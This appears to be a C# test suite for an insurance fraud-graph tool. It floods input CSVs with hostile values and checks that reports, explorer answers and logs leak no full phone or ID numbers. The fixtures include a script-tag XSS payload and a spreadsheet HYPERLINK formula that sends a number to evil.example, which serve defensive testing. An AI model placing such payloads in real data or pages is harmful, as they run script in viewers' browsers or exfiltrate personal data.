using System.Diagnostics;
using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using CsvHelper;
using CsvHelper.Configuration;

namespace Graph.Cli.Tests;

/// <summary>
/// Issue 16's acceptance: a generated insurer with hostile values in every free-text field (names of 20,000
/// characters, <c>&lt;script&gt;</c>, spreadsheet formulas, U+202E, NUL, the input's own numbers in full-width, spaced,
/// dashed and zero-width-split forms) goes through load, analyze, <c>export --flagged</c>, verify, audit, the explorer and a
/// nightly cycle;
/// every package verifies, and no package, explorer answer, console line or log line holds a full mobile, id number or
/// card number of the input in any form.
/// </summary>
public sealed class HostileInputTests
{
    private static void Ok(CliResult r) => Assert.True(r.ExitCode == 0, $"exit {r.ExitCode}\n{r.Output}\n{r.Error}");

    [Fact]
    public async Task Export_flagged_and_the_explorer_on_a_hostile_insurer_verify_and_leak_no_full_number()
    {
        using var dir = new TempDir();
        var console = new StringBuilder();
        CliResult Cli(params string[] args)
        {
            var r = CliProcess.Run(dir.Path, args);
            console.Append(r.Output).Append('\n').Append(r.Error).Append('\n');
            return r;
        }

        Ok(Cli("generate", "--holders", "2000", "--seed", "13", "--out", dir.Combine("data")));
        var secrets = HostileInsurer.Inject(dir.Combine("data"));
        Assert.True(secrets.Count > 2000, $"only {secrets.Count} full numbers in the input");

        Ok(Cli("load", dir.Combine("data")));
        Ok(Cli("analyze", "--out", dir.Combine("out")));
        var flagged = File.ReadLines(dir.Combine("out", "rings.csv")).Skip(1).Select(l => l.Split(','))
            .Where(f => f[2] == "true").Select(f => f[0]).ToList();
        Assert.NotEmpty(flagged);

        Ok(Cli("export", "--flagged", "--out", dir.Combine("pk")));
        foreach (var ring in flagged)
        {
            Ok(Cli("verify", dir.Combine("pk", ring)));
            Ok(Cli("verify", dir.Combine("pk", ring + ".zip")));
        }
        // Hostile values did reach the packages (so the scan below looks at them, not at an empty report).
        var someReport = File.ReadAllText(dir.Combine("pk", flagged[0], "report.html"));
        Assert.Contains("&lt;script&gt;", someReport);
        Ok(Cli("stats"));
        Ok(Cli("runs"));
        Ok(Cli("audit"));

        var answers = await ExplorerAnswers(dir, flagged, secrets, console);
        Assert.True(answers.Count > flagged.Count * 3, $"only {answers.Count} explorer answers");

        // The nightly service logs through ILogger: one cycle over the same insurer delivered as an increment.
        var increment = dir.Combine("inbox", "increment-1");
        Directory.CreateDirectory(increment);
        foreach (var csv in Directory.EnumerateFiles(dir.Combine("data"), "*.csv")) File.Copy(csv, Path.Combine(increment, Path.GetFileName(csv)));
        File.WriteAllText(Path.Combine(increment, "_READY"), "");
        Ok(Cli("nightly", "--once", "--inbox", dir.Combine("inbox"), "--output", dir.Combine("nightly"), "--store", dir.Combine("fraudgraph.db")));
        Assert.NotEmpty(Directory.EnumerateFiles(dir.Combine("nightly"), "*", SearchOption.AllDirectories));

        // Not scanned: analyze's and nightly's output folders, whose ring_members.csv and rings.json name contact points by
        // their normalized value (CONTRACT.md section 2) for the insurer's own systems.
        int scanned = 0;
        var texts = PackageTexts(dir.Combine("pk"))
            .Concat(answers)
            .Append(("console and log lines", console.ToString()));
        foreach (var (where, text) in texts)
        {
            LeakScan.AssertNone(where, text, secrets);
            scanned++;
        }
        Assert.True(scanned > flagged.Count * 20, $"scanned {scanned} texts");
    }

    [Fact]
    public void The_scan_finds_a_number_in_every_hostile_form_the_insurer_is_given()
    {
        // Without this, a scan blind to one form would pass the test above whatever the product shows.
        const string mobile = "13767610098", idNumber = "11010519491231002X";
        foreach (var secret in new[] { mobile, idNumber })
            for (uint form = 0; form < 9; form++)
            {
                var value = HostileInsurer.Hostile(form, "text", [secret]);
                Assert.True(LeakScan.Found(value, [secret]).Count == 1, $"form {form}: {value[..Math.Min(60, value.Length)]}");
                // And the same form of a masked number is no full number.
                var masked = HostileInsurer.Hostile(form, "text", [secret[..3] + "****" + secret[^4..]]);
                Assert.Empty(LeakScan.Found(masked, [secret]));
            }
    }

    /// <summary>
    /// The explorer over the store: ring list, reasons, each flagged ring with every node of it and its neighbours and a
    /// victim-to-controller path, and holder searches (by id prefix and by masked phone); its console joins <paramref name="console"/>.
    /// </summary>
    private static async Task<List<(string Where, string Text)>> ExplorerAnswers(TempDir dir, List<string> flagged, List<string> secrets, StringBuilder console)
    {
        var answers = new List<(string, string)>();
        using var serve = new CliProcess(dir.Path, "serve", "--urls", "http://127.0.0.1:0");
        try
        {
            Assert.True(await serve.WaitForOutputAsync("listening on ", TimeSpan.FromMinutes(3)), serve.Output + serve.Error);
            var address = Regex.Match(serve.Output, @"listening on (http://127\.0\.0\.1:\d+)").Groups[1].Value;
            using var http = new HttpClient { BaseAddress = new Uri(address), Timeout = TimeSpan.FromMinutes(2) };
            async Task<JsonElement> Get(string path)
            {
                using var response = await http.GetAsync(path);
                var body = await response.Content.ReadAsStringAsync();
                Assert.True(response.StatusCode == HttpStatusCode.OK, $"{path}: {(int)response.StatusCode} {body}");
                answers.Add((path, body));
                answers.Add((path + " (decoded)", string.Join("\n", Strings(JsonDocument.Parse(body).RootElement))));
                return JsonDocument.Parse(body).RootElement;
            }
            await Get("/api/rings?take=200");
            await Get("/api/reasons");
            foreach (var ring in flagged)
            {
                var detail = await Get($"/api/rings/{ring}");
                var nodes = detail.GetProperty("graph").GetProperty("nodes").EnumerateArray().ToList();
                foreach (var node in nodes)
                {
                    var id = Uri.EscapeDataString(node.GetProperty("id").GetString()!);
                    await Get($"/api/nodes/{id}?ring={ring}");
                    await Get($"/api/nodes/{id}/neighbours?take=200");
                }
                string? victim = nodes.Where(n => n.GetProperty("role").GetString() == "victim").Select(n => n.GetProperty("id").GetString()).FirstOrDefault();
                string? controller = nodes.Where(n => n.GetProperty("role").GetString() != "victim").Select(n => n.GetProperty("id").GetString()).FirstOrDefault();
                if (victim is not null && controller is not null)
                    await Get($"/api/rings/{ring}/path?victim={Uri.EscapeDataString(victim)}&controller={Uri.EscapeDataString(controller)}");
            }
            // Search answers carry holder labels (names, which hold the hostile values).
            await Get("/api/search?q=H");
            foreach (var mobile in secrets.Where(s => s.Length == 11 && s[0] == '1').Take(20))
                await Get($"/api/search?q={Uri.EscapeDataString(mobile[..3] + "****" + mobile[^4..])}");
        }
        finally
        {
            serve.Terminate();
            serve.WaitForExit(TimeSpan.FromSeconds(30));
            console.Append(serve.Output).Append('\n').Append(serve.Error).Append('\n');
        }
        return answers;
    }

    private static IEnumerable<string> Strings(JsonElement e)
    {
        switch (e.ValueKind)
        {
            case JsonValueKind.String: yield return e.GetString()!; break;
            case JsonValueKind.Array: foreach (var x in e.EnumerateArray()) foreach (var s in Strings(x)) yield return s; break;
            case JsonValueKind.Object:
                foreach (var p in e.EnumerateObject())
                {
                    yield return p.Name;
                    foreach (var s in Strings(p.Value)) yield return s;
                }
                break;
        }
    }

    /// <summary>Every file of every package as text (entities decoded, JSON strings decoded, PDFs through pdftotext), and every zip entry.</summary>
    private static IEnumerable<(string Where, string Text)> PackageTexts(string root)
    {
        var pdftotext = Graph.Evidence.ReportTools.FindOnPath("pdftotext");
        foreach (var file in Directory.EnumerateFiles(root, "*", SearchOption.AllDirectories))
        {
            var where = Path.GetRelativePath(root, file);
            if (file.EndsWith(".zip", StringComparison.Ordinal))
            {
                using var zip = ZipFile.OpenRead(file);
                foreach (var entry in zip.Entries)
                {
                    using var s = entry.Open();
                    using var ms = new MemoryStream();
                    s.CopyTo(ms);
                    foreach (var t in Decoded(where + ":" + entry.FullName, ms.ToArray())) yield return t;
                }
                continue;
            }
            foreach (var t in Decoded(where, File.ReadAllBytes(file))) yield return t;
            if (file.EndsWith(".pdf", StringComparison.Ordinal) && pdftotext is not null) yield return (where + " (text)", PdfText(pdftotext, file));
        }
    }

    private static IEnumerable<(string, string)> Decoded(string where, byte[] bytes)
    {
        var text = Encoding.UTF8.GetString(bytes);
        yield return (where, text);
        yield return (where + " (entities decoded)", WebUtility.HtmlDecode(text));
        if (where.EndsWith(".json", StringComparison.Ordinal))
            yield return (where + " (strings decoded)", string.Join("\n", Strings(JsonDocument.Parse(bytes).RootElement)));
        if (where.EndsWith(".xlsx", StringComparison.Ordinal))
        {
            using var zip = new ZipArchive(new MemoryStream(bytes));
            foreach (var entry in zip.Entries.Where(e => e.FullName.EndsWith(".xml", StringComparison.Ordinal)))
            {
                using var reader = new StreamReader(entry.Open());
                yield return ($"{where}/{entry.FullName}", WebUtility.HtmlDecode(reader.ReadToEnd()));
            }
        }
    }

    private static string PdfText(string pdftotext, string pdf)
    {
        var psi = new ProcessStartInfo(pdftotext) { RedirectStandardOutput = true, UseShellExecute = false };
        psi.ArgumentList.Add(pdf);
        psi.ArgumentList.Add("-");
        using var p = Process.Start(psi)!;
        var text = p.StandardOutput.ReadToEnd();
        p.WaitForExit();
        return text;
    }
}

/// <summary>
/// Rewrites a generated insurer's files with hostile values in every free-text field, and returns every full number
/// (mobile, landline, id number, account; 11 digits or more) of the input, as plain digits.
/// </summary>
internal static class HostileInsurer
{
    private static readonly Dictionary<string, string[]> FreeText = new()
    {
        ["policyholders.csv"] = ["name", "address", "city"],
        ["agents.csv"] = ["name", "org"],
        ["policies.csv"] = ["product"],
        ["contact_changes.csv"] = ["channel"],
        ["surrender_requests.csv"] = ["payout_bank", "representative_name", "channel"],
        ["complaints.csv"] = ["sender_address", "representative_name", "demand", "text"],
    };

    /// <summary>
    /// Free text that is also a contact point (addresses, representatives): the hostile value is appended and follows the
    /// original, so shared values stay shared; an empty one stays empty (one hostile value for every missing address
    /// would be a contact point all of them share).
    /// </summary>
    private static readonly HashSet<string> Shared = ["address", "representative_name"];

    /// <summary>What a column holds, for the hostile value it gets: a letter's sender address is an address like a holder's.</summary>
    private static string Kind(string column) => column == "sender_address" ? "address" : column;

    private static readonly Dictionary<string, string[]> Numbers = new()
    {
        ["policyholders.csv"] = ["id_number", "phone"],
        ["agents.csv"] = ["phone", "id_number"],
        ["contact_changes.csv"] = ["old_value", "new_value"],
        ["surrender_requests.csv"] = ["contact_phone", "payout_account", "representative_id_number", "representative_phone"],
        ["complaints.csv"] = ["contact_phone", "representative_id_number", "representative_phone"],
    };

    public static List<string> Inject(string folder)
    {
        var secrets = new HashSet<string>(StringComparer.Ordinal);
        var tables = new Dictionary<string, (string[] Header, List<string[]> Rows)>();
        foreach (var file in FreeText.Keys)
        {
            var table = Read(Path.Combine(folder, file));
            tables[file] = table;
            foreach (var column in Numbers.GetValueOrDefault(file, []))
            {
                int c = Array.IndexOf(table.Header, column), field = Array.IndexOf(table.Header, "field");
                if (c < 0) continue;
                foreach (var row in table.Rows)
                    // A change's value is a number only when a phone or an account changed (an address has digits too).
                    if ((field < 0 || row[field] is "phone" or "bank_account") && LeakScan.Secret(row[c]) is { } secret && secret.Length <= 19)
                    {
                        secrets.Add(secret);
                        // A phone is shown normalized: without its country prefix.
                        if (secret.StartsWith("0086", StringComparison.Ordinal) && secret.Length == 15) secrets.Add(secret[4..]);
                        if (secret.StartsWith("86", StringComparison.Ordinal) && secret.Length == 13) secrets.Add(secret[2..]);
                    }
            }
        }
        var list = secrets.Order(StringComparer.Ordinal).ToList();
        foreach (var (file, (header, rows)) in tables)
        {
            int field = Array.IndexOf(header, "field");
            foreach (var row in rows)
            {
                foreach (var column in FreeText[file]) Rewrite(row, Array.IndexOf(header, column), Kind(column), list);
                // A changed address is free text too, and the same text as a holder's or a sender's address.
                if (file == "contact_changes.csv" && row[field] == "address")
                    foreach (var column in (string[])["old_value", "new_value"]) Rewrite(row, Array.IndexOf(header, column), "address", list);
            }
            Write(Path.Combine(folder, file), header, rows);
        }
        return list;
    }

    private static void Rewrite(string[] row, int c, string kind, List<string> secrets)
    {
        if (c < 0) return;
        bool shared = Shared.Contains(kind);
        if (shared && row[c].Length == 0) return;
        // The same original gets the same hostile value, so what the generator shares stays shared.
        var hostile = Hostile(Fnv(kind + "|" + row[c]), kind, secrets);
        row[c] = shared ? row[c] + " " + hostile : hostile;
    }

    private static uint Fnv(string s)
    {
        uint h = 2166136261;
        foreach (char c in s) h = (h ^ c) * 16777619;
        return h;
    }

    /// <summary>The <paramref name="i"/>-th hostile value for a field: a hostile form wrapped around a full number of the input.</summary>
    internal static string Hostile(uint i, string column, List<string> secrets)
    {
        var s = secrets[(int)(i / 9 % (uint)secrets.Count)];
        bool name = column.EndsWith("name", StringComparison.Ordinal);
        return (i % 9) switch
        {
            0 when name => "张" + new string('三', 19_998) + "明",
            0 => "很长的" + new string('长', 10_000) + Wide(s) + new string('文', 10_000),
            1 => "<script>alert('" + s + "')</script>",
            2 => "=HYPERLINK(\"http://evil.example/?" + Spaced(s) + "\",\"点我\")",
            3 => "\u202E" + Dashed(s) + "\u202C 王明",
            4 => "李\0四" + string.Join('\0', Chunks(s)),
            5 => "电话" + Wide(s),
            6 => "号码" + Spaced(Wide(s)),
            7 => "tel" + s + "转" + string.Join('\u200B', Chunks(s)),
            _ => "+" + s,
        };
    }

    private static string Wide(string s) => new(s.Select(c => c is >= '0' and <= '9' or 'X' ? (char)(c + 0xFEE0) : c).ToArray());

    private static IEnumerable<string> Chunks(string s) { for (int i = 0; i < s.Length; i += 4) yield return s[i..Math.Min(s.Length, i + 4)]; }

    private static string Spaced(string s) => string.Join(' ', Chunks(s));

    private static string Dashed(string s) => string.Join('-', Chunks(s));

    private static (string[] Header, List<string[]> Rows) Read(string path)
    {
        using var reader = new CsvReader(new StreamReader(path, Encoding.UTF8), new CsvConfiguration(CultureInfo.InvariantCulture) { BadDataFound = null });
        reader.Read();
        reader.ReadHeader();
        var header = reader.HeaderRecord!;
        var rows = new List<string[]>();
        while (reader.Read()) rows.Add(Enumerable.Range(0, header.Length).Select(i => reader.GetField(i) ?? "").ToArray());
        return (header, rows);
    }

    private static void Write(string path, string[] header, List<string[]> rows)
    {
        using var writer = new CsvWriter(new StreamWriter(path, false, new UTF8Encoding(false)), new CsvConfiguration(CultureInfo.InvariantCulture) { InjectionOptions = InjectionOptions.None });
        foreach (var h in header) writer.WriteField(h);
        writer.NextRecord();
        foreach (var row in rows)
        {
            foreach (var f in row) writer.WriteField(f);
            writer.NextRecord();
        }
    }
}
